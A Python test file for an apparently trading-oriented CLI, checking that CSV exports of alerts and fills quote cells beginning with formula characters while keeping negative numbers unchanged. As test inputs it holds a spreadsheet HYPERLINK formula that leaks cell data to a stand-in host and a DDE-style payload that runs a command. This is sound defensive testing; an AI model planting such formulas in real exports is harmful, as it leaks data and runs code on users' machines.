"""A CSV export opened in a spreadsheet never runs a formula that came from outside.

Alert messages quote exchanges, attempts carry other hosts' error text: a cell such as
`=HYPERLINK("http://evil.example/?"&A1,"x")` would be evaluated by the spreadsheet the
README names. The real CLI exports them with a leading quote; numbers, negative ones
included, stay as they are, and Parquet keeps the text untouched.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

from store.alerts import insert_alert
from store.db import Store, now
from store.trading import insert_fill

ROOT = Path(__file__).resolve().parents[3]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_formulas_from_outside_are_quoted_and_numbers_are_not(tmp_path: Path) -> None:
    cfg = tmp_path / "cappuccino.toml"
    cfg.write_text(f'[store]\npath = "{tmp_path / "cappuccino.db"}"\n')
    with Store(tmp_path / "cappuccino.db") as st:
        insert_alert(st, None, "WARNING", FORMULA, now())
        insert_alert(st, None, "WARNING", "@SUM(1+1)*cmd|' /C calc'!A0", now())
        insert_fill(st, fill_id="f1", trader="t", client_order_id="c1", ticker="BTC-USD",
                    side="SELL", qty=Decimal("0.01"), price=Decimal("100"), fee=Decimal("0.1"),
                    liquidity="MAKER", realized_pnl=Decimal("-12.5"), at=now())
    env = {k: v for k, v in os.environ.items() if not k.startswith("CAPPUCCINO_")}

    def export(what: str) -> list[dict[str, str]]:
        p = subprocess.run([sys.executable, "-m", "engine.cli.main", "--config", str(cfg),
                            "export", what, "--format", "csv", "-o", "-"], cwd=ROOT, env=env,
                           capture_output=True, text=True, timeout=120)
        assert p.returncode == 0, p.stderr
        return list(csv.DictReader(io.StringIO(p.stdout)))

    messages = [r["message"] for r in export("alerts")]
    assert "'" + FORMULA in messages and not [m for m in messages if m[:1] in "=+-@"]
    fills = export("fills")
    assert fills[0]["realized_pnl"] == "-12.5" and fills[0]["side"] == "SELL"
